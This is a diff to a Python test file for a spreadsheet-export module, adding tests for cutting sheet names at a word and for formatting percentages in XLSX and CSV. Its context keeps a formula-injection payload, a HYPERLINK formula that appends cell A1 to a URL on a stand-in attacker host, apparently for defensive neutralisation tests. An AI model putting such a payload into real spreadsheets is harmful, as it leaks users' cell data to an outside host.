@@ -12,7 +12,19 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from core.spreadsheets import EURO_FORMAT, FORMULA_STARTS, Money, csv_bytes, csv_text, neutralise, sheet_title, xlsx_bytes
+from core.spreadsheets import (
+    EURO_FORMAT,
+    FORMULA_STARTS,
+    PERCENT_FORMAT,
+    Money,
+    Percent,
+    csv_bytes,
+    csv_text,
+    cut_at_word,
+    neutralise,
+    sheet_title,
+    xlsx_bytes,
+)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
@@ -109,3 +121,27 @@ def test_numpy_numbers_are_numbers_too():
     assert read_csv(csv_bytes(None, [[np.int64(-7), np.float64(2.5)]])) == [["-7", "2.5"]]
     first, second = next(read_xlsx(xlsx_bytes([("T", None, [[np.int64(-7), np.float64(2.5)]])])).iter_rows())
     assert (first.value, first.data_type, second.value, second.data_type) == (-7, "n", 2.5, "n")
+
+
+def test_long_sheet_names_are_cut_at_a_word():
+    """Issue 16, defect 8: « Ce que sont devenus vos apparei » (Excel's 31 characters, cut mid-word)."""
+    used: set[str] = set()
+    assert sheet_title("Ce que sont devenus vos appareils", used) == "Ce que sont devenus vos"
+    assert sheet_title("Ce que sont devenus vos appareils", used) == "Ce que sont devenus vos (2)"
+    assert sheet_title("x" * 20 + " yyyyyyyyyy", used) == "x" * 20 + " yyyyyyyyyy"
+    assert sheet_title("x" * 20 + " yyyyyyyyyy", used) == "x" * 20 + " (2)"
+    assert sheet_title("Attente (entre validation et remise)", used) == "Attente (entre validation et"
+    assert sheet_title("Appareils par état et catégorie", used) == "Appareils par état et catégorie"   # 31: kept
+    assert cut_at_word("Un deux — trois", 9) == "Un deux"             # no dangling dash
+    assert cut_at_word("abcdefghij", 4) == "abcd"                     # one word longer than the limit
+    workbook = load_workbook(io.BytesIO(xlsx_bytes([("Certificats d'effacement de vos appareils", ["h"], [[1]])])))
+    assert workbook.sheetnames == ["Certificats d'effacement de vos"]
+
+
+def test_a_rate_is_a_percent_in_xlsx_and_per_cent_in_csv():
+    rows = [[Percent(0.75), Percent(Decimal("0.6667")), Percent(float("nan"))]]
+    assert read_csv(csv_bytes(None, rows, decimal=",")) == [["75", "66,67", ""]]
+    three_quarters, two_thirds, nan = next(read_xlsx(xlsx_bytes([("T", None, rows)])).iter_rows())
+    assert (three_quarters.value, three_quarters.data_type, three_quarters.number_format) == (0.75, "n", PERCENT_FORMAT)
+    assert (float(two_thirds.value), two_thirds.number_format) == (0.6667, PERCENT_FORMAT)
+    assert nan.value is None
